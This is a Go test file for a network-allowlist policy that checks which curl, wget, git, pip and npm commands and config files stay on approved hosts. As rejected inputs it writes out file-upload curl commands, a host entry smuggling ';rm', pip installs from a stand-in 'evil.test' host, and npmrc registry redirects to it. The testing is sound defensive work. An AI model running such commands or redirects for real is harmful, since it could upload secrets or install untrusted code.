package policy

import (
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"testing"

	"github.com/gatekeep/gatekeep/shellparse"
)

func TestParseHostEntry(t *testing.T) {
	for _, c := range []struct {
		in, want string // want "" for an error
	}{
		{"registry.npmjs.org", "registry.npmjs.org"},
		{"Registry.NPMJS.org.", "registry.npmjs.org"},
		{"*.pythonhosted.org", "*.pythonhosted.org"},
		{"git.example.com:8443", "git.example.com:8443"},
		{"10.0.0.1", "10.0.0.1"},
		{"[::1]:8080", "[::1]:8080"},
		{"::1", "[::1]"},
		{"*.com", ""},
		{"*", ""},
		{"https://pypi.org", ""},
		{"pypi.org/simple", ""},
		{"pypi.org:0", ""},
		{"pypi.org:70000", ""},
		{"pypi.org:", ""},
		{"a..b", ""},
		{"-a.b", ""},
		{"a b", ""},
		{"evil.com;rm", ""},
		{"", ""},
	} {
		e, err := ParseHostEntry(c.in)
		switch {
		case c.want == "" && err == nil:
			t.Errorf("%q: want an error, got %s", c.in, e)
		case c.want != "" && err != nil:
			t.Errorf("%q: %v", c.in, err)
		case c.want != "" && e.String() != c.want:
			t.Errorf("%q: got %s, want %s", c.in, e, c.want)
		}
	}
}

func TestAllowedHostsAdmits(t *testing.T) {
	entries := func(list ...string) []HostEntry {
		var out []HostEntry
		for _, s := range list {
			e, err := ParseHostEntry(s)
			if err != nil {
				t.Fatal(err)
			}
			out = append(out, e)
		}
		return out
	}
	h := AllowedHosts{Allow: entries("pypi.org", "*.pythonhosted.org", "git.example.com:8443", "10.0.0.1")}
	for _, c := range []struct {
		host string
		port int
		want bool
	}{
		{"pypi.org", 443, true},
		{"PYPI.org.", 80, true},
		{"pypi.org", 8080, false},
		{"sub.pypi.org", 443, false},
		{"files.pythonhosted.org", 443, true},
		{"a.b.pythonhosted.org", 443, true},
		{"pythonhosted.org", 443, false},
		{"evilpythonhosted.org", 443, false},
		{"git.example.com", 8443, true},
		{"git.example.com", 443, false},
		{"10.0.0.1", 443, true},
		{"::ffff:10.0.0.1", 443, true},
		{"10.0.0.2", 443, false},
	} {
		if got := h.Admits(c.host, c.port); got != c.want {
			t.Errorf("%s:%d: got %v, want %v", c.host, c.port, got, c.want)
		}
	}
	// An untrusted file's list only takes hosts away.
	h.Within = [][]HostEntry{entries("pypi.org", "evil.com")}
	if !h.Admits("pypi.org", 443) || h.Admits("files.pythonhosted.org", 443) || h.Admits("evil.com", 443) {
		t.Error("Within does not intersect")
	}
	h.Within = [][]HostEntry{{}}
	if !h.Empty() || h.Admits("pypi.org", 443) {
		t.Error("an empty Within list does not take every host away")
	}
	if !(AllowedHosts{}).Empty() {
		t.Error("no entries is not empty")
	}
}

// TestDestinationsAdmitted: a network tool is admitted only when every
// destination is on the list and known from the text and the tool's own
// configuration.
func TestDestinationsAdmitted(t *testing.T) {
	home := t.TempDir()
	proj := t.TempDir()
	var hosts AllowedHosts
	for _, s := range []string{"allowed.test", "pypi.org", "files.pythonhosted.org", "registry.npmjs.org", "github.com"} {
		e, _ := ParseHostEntry(s)
		hosts.Allow = append(hosts.Allow, e)
	}
	envVars := map[string]string{}
	env := NetworkEnv{Getenv: func(k string) string { return envVars[k] }, Home: home}
	for _, c := range []struct {
		cmd  string
		want bool
	}{
		{"curl https://allowed.test/x", true},
		{"curl -sSL -o out.txt https://allowed.test/x", true},
		{"curl -sS allowed.test/x", true},
		{"curl -X GET https://allowed.test/x", true},
		{"curl https://allowed.test:8443/x", false},
		{"curl https://other.test/x", false},
		{"curl https://allowed.test/x https://other.test/y", false},
		{"curl -d @secret https://allowed.test/x", false},
		{"curl -F f=@x https://allowed.test/x", false},
		{"curl -T file https://allowed.test/x", false},
		{"curl -X POST https://allowed.test/x", false},
		{"curl --json '{}' https://allowed.test/x", false},
		{"curl -K cfg https://allowed.test/x", false},
		{"curl -H @headers.txt https://allowed.test/x", false},
		{"curl --header=@headers.txt https://allowed.test/x", false},
		{"curl -sH @headers.txt https://allowed.test/x", false},
		{"curl -sH@headers.txt https://allowed.test/x", false},
		{"curl -H 'Accept: text/plain' https://allowed.test/x", true},
		{"curl -x http://proxy https://allowed.test/x", false},
		{"curl https://user:pw@allowed.test/x", false},
		{"curl https://allowed.test/{a,b}", false},
		{"curl \"$URL\"", false},
		{"curl", false},
		{"X=1 curl https://allowed.test/x", false},
		{"sudo curl https://allowed.test/x", false},
		{"wget -q https://allowed.test/x", true},
		{"wget --post-data=x https://allowed.test/x", false},
		{"wget -r https://allowed.test/x", false},
		{"git clone https://github.com/a/b", true},
		{"git clone --depth 1 -b main https://github.com/a/b dir", true},
		{"git clone --recurse-submodules https://github.com/a/b", false},
		{"git clone -c http.proxy=x https://github.com/a/b", false},
		{"git -c http.proxy=x clone https://github.com/a/b", false},
		{"git clone git@github.com:a/b", false},
		{"git clone ssh://github.com/a/b", false},
		{"git fetch https://github.com/a/b main", true},
		{"git fetch origin", false},
		{"git pull", false},
		{"git push https://github.com/a/b", false},
		{"pip install requests", true},
		{"pip3 install -U --no-deps requests==2.0", true},
		{"pip download -i https://allowed.test/simple/ demo", true},
		{"pip install -i https://other.test/simple/ demo", false},
		{"pip install --extra-index-url https://other.test/simple/ demo", false},
		{"pip install -r requirements.txt", false},
		{"pip install 'demo @ https://other.test/demo.whl'", false},
		{"pip install git+https://github.com/a/b", false},
		{"pip install -e git+https://evil.test/x#egg=x", false},
		{"pip install -e .", true},
		{"pip uninstall demo", false},
		{"npm install", true},
		{"npm ci --ignore-scripts", true},
		{"npm install left-pad @types/node", true},
		{"npm install github:a/b", false},
		{"npm install https://other.test/x.tgz", false},
		{"npm install --registry https://other.test/ x", false},
		{"npm install --registry=https://allowed.test/ x", true},
		{"npm publish", false},
		{"npx cowsay", false},
	} {
		s, err := shellparse.Parse(c.cmd, shellparse.Options{})
		if err != nil || len(s.Commands) == 0 {
			t.Fatalf("%s: %v", c.cmd, err)
		}
		cmd := &s.Commands[len(s.Commands)-1]
		want := c.want
		if name := cmd.Name(); want && (name == "pip" || name == "pip3") && !globalKeeps(pipMoves) ||
			want && name == "npm" && !globalKeeps(npmMoves) {
			want = false // this machine's global config moves the registry
		}
		if got := destinationsAdmitted(cmd, proj, env, hosts); got != want {
			t.Errorf("%s: got %v, want %v", c.cmd, got, want)
		}
	}

	// The tools' own configuration can move the registry.
	npm := func() bool {
		s, _ := shellparse.Parse("npm install", shellparse.Options{})
		return destinationsAdmitted(&s.Commands[0], proj, env, hosts)
	}
	pip := func() bool {
		s, _ := shellparse.Parse("pip install demo", shellparse.Options{})
		return destinationsAdmitted(&s.Commands[0], proj, env, hosts)
	}
	if !globalKeeps(pipMoves) || !globalKeeps(npmMoves) {
		t.Skip("this machine's global pip or npm config moves the registry")
	}
	if !npm() || !pip() {
		t.Fatal("the default registries are not admitted")
	}
	write := func(path, text string) {
		t.Helper()
		os.MkdirAll(filepath.Dir(path), 0o755)
		if err := os.WriteFile(path, []byte(text), 0o644); err != nil {
			t.Fatal(err)
		}
	}
	write(filepath.Join(proj, ".npmrc"), "cafile=/etc/ssl/x.pem\n")
	if !npm() {
		t.Error("an npmrc that moves no registry is not admitted")
	}
	write(filepath.Join(proj, ".npmrc"), "@corp:registry=https://npm.corp.example/\n")
	if npm() {
		t.Error("a scope's registry in the project's npmrc is admitted")
	}
	os.Remove(filepath.Join(proj, ".npmrc"))
	write(filepath.Join(home, ".npmrc"), "registry = https://npm.corp.example/\n")
	if npm() {
		t.Error("a registry in ~/.npmrc is admitted")
	}
	os.Remove(filepath.Join(home, ".npmrc"))
	envVars["npm_config_registry"] = "https://npm.corp.example/"
	if npm() {
		t.Error("npm_config_registry is admitted")
	}
	delete(envVars, "npm_config_registry")
	write(filepath.Join(home, ".config", "pip", "pip.conf"), "[global]\ncert = /etc/ssl/x.pem\n")
	if !pip() {
		t.Error("a pip.conf that adds no index is not admitted")
	}
	write(filepath.Join(home, ".config", "pip", "pip.conf"), "[global]\nextra_index_url: https://pypi.corp.example/simple\n")
	if pip() {
		t.Error("an extra index in pip.conf is admitted")
	}
	os.Remove(filepath.Join(home, ".config", "pip", "pip.conf"))
	envVars["PIP_INDEX_URL"] = "https://pypi.corp.example/simple"
	if pip() {
		t.Error("PIP_INDEX_URL is admitted")
	}
	envVars["PIP_INDEX_URL"] = "https://allowed.test/simple"
	envVars["PIP_FIND_LINKS"] = "/opt/wheels"
	if !pip() {
		t.Error("an index on the list and a local find-links dir are not admitted")
	}
	envVars["PIP_FIND_LINKS"] = "/opt/wheels https://other.test/links/"
	if pip() {
		t.Error("find-links on another host is admitted")
	}
}

// globalKeeps reports whether this machine's global pip and npm config
// files move no registry.
func globalKeeps(moves func(string) bool) bool {
	for _, f := range []string{"/etc/pip.conf", "/etc/xdg/pip/pip.conf", "/etc/npmrc", "/usr/etc/npmrc", "/usr/local/etc/npmrc"} {
		if !configFileKeeps(f, moves) {
			return false
		}
	}
	return true
}

// A project's .npmrc moves the registry as npm's ini reads it: an
// indented key and a quoted key are keys, so the file does not keep the
// default registry.
func TestConfigFileKeepsNpmSpellings(t *testing.T) {
	dir := t.TempDir()
	for _, body := range []string{"registry=https://evil.test/\n", " registry=https://evil.test/\n",
		"\t\"registry\"=https://evil.test/\n", "'Registry' = https://evil.test/\n"} {
		f := filepath.Join(dir, ".npmrc")
		if err := os.WriteFile(f, []byte(body), 0o644); err != nil {
			t.Fatal(err)
		}
		if configFileKeeps(f, npmMoves) {
			t.Errorf("%q keeps the registry", body)
		}
	}
}

// The npmrc reading never trusts a file the real npm reads a registry
// from: for each spelling of a project .npmrc, configFileKeeps says the
// file moves the registry whenever `npm config get registry` there prints
// another one (it may be stricter than npm, which only asks).
func TestConfigFileKeepsAgainstNpm(t *testing.T) {
	if _, err := exec.LookPath("npm"); err != nil {
		if os.Getenv("CI") == "true" {
			t.Fatal("npm is needed and missing")
		}
		t.Skip("needs npm")
	}
	home := t.TempDir()
	for _, body := range []string{"registry=https://evil.test/\n", " registry=https://evil.test/\n",
		"\t\"registry\"=https://evil.test/\n", "'registry' = https://evil.test/\n", "; registry=https://evil.test/\n",
		"# registry=https://evil.test/\n", "loglevel=warn\n", "[section]\nregistry=https://evil.test/\n"} {
		dir := t.TempDir()
		f := filepath.Join(dir, ".npmrc")
		if err := os.WriteFile(f, []byte(body), 0o644); err != nil {
			t.Fatal(err)
		}
		cmd := exec.Command("npm", "config", "get", "registry")
		cmd.Dir = dir
		cmd.Env = append(os.Environ(), "HOME="+home, "npm_config_userconfig="+filepath.Join(home, ".npmrc"),
			"npm_config_update_notifier=false")
		out, err := cmd.Output()
		if err != nil {
			t.Fatalf("npm config get registry with %q: %v", body, err)
		}
		moved := strings.TrimSpace(string(out)) != "https://registry.npmjs.org/"
		switch keeps := configFileKeeps(f, npmMoves); {
		case moved && keeps:
			t.Errorf("%q: npm's registry is %s, and configFileKeeps says the file keeps the default", body, strings.TrimSpace(string(out)))
		case !moved && !keeps:
			// Stricter than npm (a key under a [section]): the call asks.
			t.Logf("%q: npm keeps the default registry; configFileKeeps is stricter", body)
		}
	}
}
